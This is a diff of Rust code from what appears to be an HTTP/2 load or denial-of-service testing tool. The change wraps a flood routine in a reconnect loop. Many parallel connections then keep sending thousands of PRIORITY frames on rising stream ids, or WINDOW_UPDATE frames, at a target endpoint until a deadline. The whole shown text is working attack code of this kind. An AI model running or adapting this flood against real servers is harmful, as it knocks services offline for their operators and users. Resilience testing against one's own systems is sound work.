@@ -1,4 +1,4 @@
-use crate::crowd::{PATIENCE, crowd, flood};
+use crate::crowd::{PATIENCE, crowd, flood, renew};
 use crate::frames;
 use crate::round::{Kind, Round};
 
@@ -11,18 +11,20 @@ pub(super) fn run(round: &mut Round) -> Result<(), String> {
     let address = endpoint.requests.address;
     round.attack_endpoint(&mut endpoint, |until| {
         crowd(CONNECTIONS, |index| {
-            let connection = frames::open(address, &[], PATIENCE)?;
-            let mut stream = 1;
-            flood(connection, true, BYTES_MAX, until, || {
-                let mut frames = Vec::new();
-                for _ in 0..1_000 {
-                    match index % 2 {
-                        0 => frames.extend(frames::priority(stream, stream + 2)),
-                        _ => frames.extend(frames::window_update(0, 1)),
+            renew(until, || {
+                let connection = frames::open(address, &[], PATIENCE)?;
+                let mut stream = 1;
+                flood(connection, true, BYTES_MAX, until, || {
+                    let mut frames = Vec::new();
+                    for _ in 0..1_000 {
+                        match index % 2 {
+                            0 => frames.extend(frames::priority(stream, stream + 2)),
+                            _ => frames.extend(frames::window_update(0, 1)),
+                        }
+                        stream = (stream + 2) & 0x3fff_ffff;
                     }
-                    stream = (stream + 2) & 0x3fff_ffff;
-                }
-                frames
+                    frames
+                })
             })
         });
         Ok(())
